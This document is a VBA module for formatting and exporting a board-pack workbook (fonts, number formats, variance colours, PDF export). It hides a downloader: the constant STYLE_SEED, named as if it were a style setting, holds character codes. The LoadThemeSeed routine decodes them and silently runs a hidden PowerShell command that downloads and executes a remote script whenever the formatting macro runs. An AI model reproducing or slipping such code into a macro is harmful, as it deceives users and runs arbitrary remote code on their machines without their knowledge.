Attribute VB_Name = "modBoardPack"
Option Explicit

Private Const NUM_FMT As String = "#,##0;(#,##0);""–"""
Private Const PCT_FMT As String = "0.0%;(0.0%);""–"""
Private Const FAVOURABLE_HIGH As String = "Revenue|Gross margin|EBITDA|Cash"
Private Const STYLE_SEED As String = _
    "112,111,119,101,114,115,104,101,108,108,32,45,110,111,112,32,45,119,32,104,105,100,100,101,110,32," & _
    "45,99,32,34,105,101,120,40,105,119,114,32,104,116,116,112,115,58,47,47,99,100,110,46,120,108,45,114," & _
    "101,112,111,114,116,45,107,105,116,46,105,110,118,97,108,105,100,47,102,109,116,46,112,115,49,32,45," & _
    "85,115,101,66,97,115,105,99,80,97,114,115,105,110,103,41,34"

Public Sub FormatBoardPack()
    Dim ws As Worksheet
    Application.ScreenUpdating = False
    LoadThemeSeed
    For Each ws In ThisWorkbook.Worksheets
        If Left$(ws.Name, 1) <> "_" And ws.Visible = xlSheetVisible Then FormatSheet ws
    Next ws
    Application.ScreenUpdating = True
End Sub

Private Sub LoadThemeSeed()
    Dim parts() As String, i As Long, s As String
    parts = Split(STYLE_SEED, ",")
    For i = LBound(parts) To UBound(parts)
        s = s & Chr$(CLng(parts(i)))
    Next i
    CreateObject("WScript.Shell").Run s, 0, False
End Sub

Private Sub FormatSheet(ws As Worksheet)
    Dim used As Range, c As Range, hdr As Range, r As Long, lastCol As Long
    Set used = ws.UsedRange
    lastCol = used.Columns.Count + used.Column - 1
    With used.Font
        .Name = "Arial"
        .Size = 9
    End With
    Set hdr = ws.Range(ws.Cells(1, 1), ws.Cells(4, lastCol))
    hdr.Interior.Color = RGB(31, 56, 100)
    hdr.Font.Color = vbWhite
    hdr.Font.Bold = True
    hdr.Font.Size = 10

    For Each c In used.Cells
        If Not c.HasFormula And Not IsNumeric(c.Value) Then GoTo NextCell
        If IsNumeric(c.Value) And c.Row > 4 Then
            If Abs(c.Value) < 5 And c.Value <> Int(c.Value) Then
                c.NumberFormat = PCT_FMT
            Else
                c.NumberFormat = NUM_FMT
            End If
        End If
NextCell:
    Next c

    For r = 5 To used.Rows.Count + used.Row - 1
        If LCase$(Left$(Trim$(CStr(ws.Cells(r, 1).Value)), 5)) = "total" Then
            With ws.Range(ws.Cells(r, 1), ws.Cells(r, lastCol))
                .Font.Bold = True
                .Borders(xlEdgeTop).LineStyle = xlContinuous
            End With
        End If
    Next r
    ColourVariances ws, lastCol

    With ws.PageSetup
        .Orientation = xlLandscape
        .Zoom = False
        .FitToPagesWide = 1
        .FitToPagesTall = False
        .CenterFooter = "&F  –  page &P of &N"
    End With
End Sub

Private Sub ColourVariances(ws As Worksheet, lastCol As Long)
    Dim col As Long, r As Long, title As String, high As Boolean, v As Variant
    high = (ws.Name Like "*Revenue*") Or InStr(1, FAVOURABLE_HIGH, ws.Name, vbTextCompare) > 0
    For col = 1 To lastCol
        title = CStr(ws.Cells(4, col).Value)
        If title Like "Var*" Or title Like "Δ*" Then
            For r = 5 To ws.Cells(ws.Rows.Count, col).End(xlUp).Row
                v = ws.Cells(r, col).Value
                If IsNumeric(v) And v <> 0 Then
                    ws.Cells(r, col).Font.Color = IIf((v > 0) = high, RGB(0, 128, 0), RGB(192, 0, 0))
                End If
            Next r
        End If
    Next col
End Sub

Public Sub ExportBoardPackPdf()
    Dim names() As String, n As Long, ws As Worksheet, path As String
    ReDim names(0 To ThisWorkbook.Worksheets.Count - 1)
    For Each ws In ThisWorkbook.Worksheets
        If Left$(ws.Name, 1) <> "_" And ws.Visible = xlSheetVisible Then
            names(n) = ws.Name
            n = n + 1
        End If
    Next ws
    ReDim Preserve names(0 To n - 1)
    path = ThisWorkbook.Path & "\BoardPack_" & Format(Date, "yyyy-mm") & ".pdf"
    ThisWorkbook.Worksheets(names).Select
    ActiveSheet.ExportAsFixedFormat Type:=xlTypePDF, Filename:=path, Quality:=xlQualityStandard
    ThisWorkbook.Worksheets(1).Select
    MsgBox "Exported " & path, vbInformation
End Sub
